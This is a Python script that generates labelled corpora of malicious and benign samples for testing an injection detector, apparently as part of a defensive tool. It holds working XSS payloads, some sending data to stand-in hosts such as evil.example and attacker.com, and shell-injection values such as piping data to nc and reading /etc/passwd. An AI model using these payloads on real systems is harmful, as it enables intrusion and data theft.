#!/usr/bin/env python3
"""Regenerates the bundled corpora under corpus/.

Each record reflects one request parameter into a page template (or a shell
command) and stores the output base64-encoded, so fixtures stay byte-exact.
"""

import argparse
import base64
import json
import pathlib

SINKS = {
    "html_text": "<!doctype html>\n<html><head><meta charset=\"utf-8\"></head>\n<body>\n<h2>You searched for: {V}</h2>\n<p>No results.</p>\n</body></html>\n",
    "attr_dq": "<html><body>\n<form action=\"/find\"><input type=\"text\" name=\"q\" value=\"{V}\"></form>\n</body></html>\n",
    "attr_sq": "<html><body>\n<a href='/find?q={V}'>again</a>\n</body></html>\n",
    "attr_unquoted": "<html><body>\n<div class={V}>item</div>\n</body></html>\n",
    "js_dq": "<html><body>\n<script>\n  var q = \"{V}\";\n  show(q);\n</script>\n</body></html>\n",
    "js_sq": "<html><body>\n<script>\n  var q = '{V}';\n  show(q);\n</script>\n</body></html>\n",
    "js_template": "<html><body>\n<script>\n  var q = `{V}`;\n  show(q);\n</script>\n</body></html>\n",
    "js_comment": "<html><body>\n<script>\n  // last query: {V}\n  var count = 1;\n</script>\n</body></html>\n",
    "css_value": "<html><head>\n<style>\nbody {{ background-color: {V} }}\n</style>\n</head><body>hi</body></html>\n",
    "css_string": "<html><head>\n<style>\np::after {{ content: \"{V}\"; }}\n</style>\n</head><body><p>hi</p></body></html>\n",
    "textarea": "<html><body>\n<textarea name=\"note\">{V}</textarea>\n</body></html>\n",
    "title": "<html><head><title>{V}</title></head><body>hi</body></html>\n",
    "html_comment": "<html><body>\n<!-- {V} -->\n<p>hi</p>\n</body></html>\n",
}

CATEGORY = {
    "html_text": "html", "attr_dq": "html", "attr_sq": "html", "attr_unquoted": "html",
    "textarea": "html", "title": "html", "html_comment": "html",
    "js_dq": "js", "js_sq": "js", "js_template": "js", "js_comment": "js",
    "css_value": "css", "css_string": "css",
}


def vulnerable_page(color="", id_="", term=""):
    """The three-sink demo page served by tools/vulnerable_app.hpp."""
    return (
        "<html>\n<body>\n<style>\nbody{\n  background-color: " + color + "\n}\n</style>\n"
        "<form action=\"index.php\">\n"
        "  background Color :</td><td>\n"
        "  <input type=\"name\" name=\"color\" />\n"
        "  <input type=\"submit\" value=\"Change Color\" />\n"
        "  <input type=\"hidden\"\n"
        "    name=\"CSRFToken\" value=\"SECRET\">\n"
        "</form>\n"
        "<script>\n"
        "  document.write(\"Username is: \");\n"
        "  var str = \"" + id_ + "\" ;\n"
        "  document.write(\"<text>\"+str+\"</text>\");\n"
        "</script>\n"
        "<h2> You were searching for:\n  '" + term + "'\n</h2>\n"
        "  Here is the result:\n  auditor:x:1001:1001::/home/auditor\n</body>\n</html>\n"
    )


CSS_ATTR_LEAK = (
    "\"}; a[href*='A'] {\n"
    "   background: url(attacker.com?A); }\n"
    "a[href*='S'] {\n"
    "   background: url(attacker.com?S); }\n"
    "a[href*='S'][href*='E'][href*='C'][href*='R']{\n"
    "   background: url(attacker.com?SECR); }"
)

MALICIOUS = [
    # HTML text context
    ("html_text", "<script>alert('injection');</script>"),
    ("html_text", "<img src=x onerror=alert(1)>"),
    ("html_text", "<svg onload=alert(1)>"),
    ("html_text", "<body onload=alert(1)>"),
    ("html_text", "<details open ontoggle=alert(1)>"),
    ("html_text", "<iframe src=\"javascript:alert(1)\"></iframe>"),
    ("html_text", "<a href=\"javascript:alert(1)\">win</a>"),
    ("html_text", "<a href=\"&#106;avascript:alert(1)\">win</a>"),
    ("html_text", "<img src=x onerror=&#97;lert(1)>"),
    ("html_text", "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">"),
    ("html_text", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("html_text", "<scr<script>ipt>alert(1)</script>"),
    ("html_text", "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">"),
    ("html_text", "<form action=\"https://evil.example/steal\"><input name=pw>"),
    ("html_text", "<base href=\"https://evil.example/\">"),
    ("html_text", "<img src='https://evil.example/leak?"),
    ("html_text", "<!-- swallow the rest"),
    ("html_text", "<style>@import 'https://evil.example/x.css';</style>"),
    ("html_text", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("textarea", "</textarea><script>alert(1)</script>"),
    ("title", "</title><svg onload=alert(1)>"),
    ("html_comment", "--><script>alert(1)</script><!--"),
    # HTML attribute contexts
    ("attr_dq", "\"><script>alert(1)</script>"),
    ("attr_dq", "\" onmouseover=\"alert(1)"),
    ("attr_dq", "\" autofocus onfocus=alert(1) x=\""),
    ("attr_sq", "'><svg onload=alert(1)>"),
    ("attr_sq", "' onclick='alert(1)"),
    ("attr_unquoted", "x onmouseover=alert(1)"),
    ("attr_unquoted", "x><img src=x onerror=alert(1)>"),
    # JavaScript contexts
    ("js_dq", "Admin\";alert(1);\""),
    ("js_dq", "Hi\"; alert('injection');There."),
    ("js_dq", "\";alert(document.cookie)//"),
    ("js_dq", "</script><script>alert(1)</script>"),
    ("js_dq", "\"-alert(1)-\""),
    ("js_dq", "\"+alert(1)+\""),
    ("js_sq", "';alert(1);//"),
    ("js_sq", "'-alert(1)-'"),
    ("js_template", "${alert(1)}"),
    ("js_template", "`;alert(1);`"),
    ("js_comment", "x\nalert(1)//"),
    # CSS contexts
    ("css_value", CSS_ATTR_LEAK),
    ("css_value", "red;} body{background:url(https://evil.example/)}"),
    ("css_value", "url(https://evil.example/track)"),
    ("css_value", "red</style><script>alert(1)</script>"),
    ("css_string", "\"; } body { background: url(https://evil.example/) } p { content: \""),
]

BENIGN = [
    ("html_text", "hello world"),
    ("html_text", "Auditor"),
    ("html_text", "O'Brien"),
    ("html_text", "a < b and c > d"),
    ("html_text", "Tom & Jerry"),
    ("html_text", "semicolons; are fine"),
    ("html_text", "\"quoted\" words"),
    ("html_text", "50% off today"),
    ("html_text", "naïve café"),
    ("html_text", "user@example.com"),
    ("attr_dq", "search term"),
    ("attr_dq", "it's fine"),
    ("attr_dq", "a=b&c=d"),
    ("attr_sq", "path/to/page"),
    ("attr_sq", "say \"hi\""),
    ("attr_unquoted", "item-42"),
    ("attr_unquoted", "blue"),
    ("js_dq", "admin"),
    ("js_dq", "O'Brien"),
    ("js_dq", "hello; not code"),
    ("js_dq", "<b>bold</b>"),
    ("js_sq", "Say \"hi\""),
    ("js_sq", "a+b=c"),
    ("js_template", "plain text"),
    ("js_comment", "note (x) + 1"),
    ("css_value", "red"),
    ("css_value", "#ff0000"),
    ("css_value", "rgb(10, 20, 30)"),
    ("css_string", "Hello world"),
    ("css_string", "it's"),
    ("textarea", "<b>not markup</b>"),
    ("title", "My <page> title"),
    ("html_comment", "just a note"),
]

# (command template, tainted value)
SHELL_MALICIOUS = [
    ("cat userinfo.txt | grep {V}", "Auditor; rm userinfo.txt"),
    ("ping -c 1 {V}", "127.0.0.1; cat /etc/passwd"),
    ("ping -c 1 {V}", "$(whoami)"),
    ("ping -c 1 {V}", "`id`"),
    ("echo {V}", "hello && id"),
    ("grep {V} data.txt", "x data.txt | nc evil.example 80"),
    ("nslookup {V}", "example.com || uname -a"),
    ("echo {V}", "x > /tmp/pwned"),
    ("ping -c 1 {V}", "127.0.0.1\nid"),
    ("{V}", "ls -la"),
]

SHELL_BENIGN = [
    ("cat userinfo.txt | grep {V}", "Auditor"),
    ("ping -c 1 {V}", "127.0.0.1"),
    ("grep '{V}' notes.txt", "hello world; bye"),
    ("echo \"{V}\"", "John Smith"),
    ("ls {V}", "/home/auditor"),
    ("nslookup {V}", "example.com"),
    ("grep -- \"{V}\" notes.txt", "a;b|c"),
]

# Known single-token limitation: an injected lone command word causes no
# context switch. Labelled malicious, expected benign.
LIMITATIONS = [
    ("{V}", "whoami"),
    ("{V}", "reboot"),
]


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode("ascii")


def html_record(rid, label, category, params, body):
    data = body.encode("utf-8")
    for value in params.values():
        assert value.encode("utf-8") in data, (rid, value)
    return {"id": rid, "label": label, "category": category, "kind": "html",
            "request_params": params, "response_body_b64": b64(data)}


def shell_record(rid, label, command, value, expected=None):
    assert value in command, (rid, value)
    record = {"id": rid, "label": label, "category": "shell", "kind": "shell",
              "request_params": {"arg": value}, "command_b64": b64(command.encode("utf-8"))}
    if expected:
        record["expected"] = expected
    return record


def sink_records(label, entries):
    records = []
    for i, (sink, value) in enumerate(entries):
        body = SINKS[sink].replace("{V}", value).replace("{{", "{").replace("}}", "}")
        if label == "benign":
            # The value must not also match markup elsewhere in the page.
            assert body.count(value) == 1, (sink, value)
        records.append(html_record(f"{label}-{sink}-{i:02d}", label, CATEGORY[sink], {"q": value}, body))
    return records


def build():
    exploits = [
        html_record("demo-term-script", "malicious", "html", {"term": "<script>alert('injection');</script>"},
                    vulnerable_page(term="<script>alert('injection');</script>")),
        html_record("demo-id-js-string", "malicious", "js", {"id": "Admin\";alert(1);\""},
                    vulnerable_page(id_="Admin\";alert(1);\"")),
        html_record("demo-color-css-leak", "malicious", "css", {"color": CSS_ATTR_LEAK}, vulnerable_page(color=CSS_ATTR_LEAK)),
    ]
    exploits += sink_records("malicious", MALICIOUS)
    exploits += [shell_record(f"malicious-shell-{i:02d}", "malicious", t.replace("{V}", v), v)
                 for i, (t, v) in enumerate(SHELL_MALICIOUS)]

    benign = [
        html_record("demo-benign", "benign", "js", {"id": "admin", "color": "#336699", "term": "Auditor"},
                    vulnerable_page(color="#336699", id_="admin", term="Auditor")),
    ]
    benign += sink_records("benign", BENIGN)
    benign += [shell_record(f"benign-shell-{i:02d}", "benign", t.replace("{V}", v), v)
               for i, (t, v) in enumerate(SHELL_BENIGN)]

    limitations = [shell_record(f"limitation-shell-{i:02d}", "malicious", t.replace("{V}", v), v, "benign")
                   for i, (t, v) in enumerate(LIMITATIONS)]
    return {"exploits.jsonl": exploits, "benign.jsonl": benign, "limitations.jsonl": limitations}


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--out", default=str(pathlib.Path(__file__).resolve().parent.parent / "corpus"))
    args = parser.parse_args()
    out = pathlib.Path(args.out)
    out.mkdir(parents=True, exist_ok=True)
    for name, records in build().items():
        with open(out / name, "w", encoding="utf-8") as f:
            for record in records:
                f.write(json.dumps(record, ensure_ascii=False, sort_keys=False) + "\n")
        print(f"{name}: {len(records)} records")


if __name__ == "__main__":
    main()
